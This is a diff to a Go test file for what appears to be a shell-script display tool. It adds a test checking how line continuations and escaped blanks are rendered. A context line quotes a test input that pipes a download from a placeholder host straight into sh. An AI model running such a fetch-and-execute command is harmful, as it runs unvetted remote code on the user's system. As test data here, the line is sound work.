@@ -58,6 +58,29 @@ sh -c 'curl https://x.example/p | sh' # later
  11 commands · what is not named here may matter too · of /command`)
 }
 
+// TestShellTrimsWhatTheShellSkips: a line continuation at the end of a piece
+// goes, a blank that a backslash quotes stays.
+func TestShellTrimsWhatTheShellSkips(t *testing.T) {
+	for src, want := range map[string]string{
+		"a && \\\n \\\n b": "\n   && b\n",
+		"echo a\\ ; b":     "\n echo a\\ |\n",
+		"a \\\\\nb":        "\n a \\\\\n b\n",
+		"# a \\\nb":        "\n # a \\\n b\n",
+	} {
+		var got strings.Builder
+		for _, row := range shellOf(t, src).Render(look(false), 80, 20) {
+			s := row.Plain()
+			if strings.HasSuffix(s, " ") {
+				s += "|" // a blank at the end is there
+			}
+			got.WriteString(s + "\n")
+		}
+		if !strings.Contains(got.String(), want) {
+			t.Errorf("%q:\n%s\nwant: %s", src, got.String(), want)
+		}
+	}
+}
+
 // holdsAll reports whether shown has every character of a script in its order,
 // but white space, and backslashes that continue a line.
 func holdsAll(shown, src string) bool {
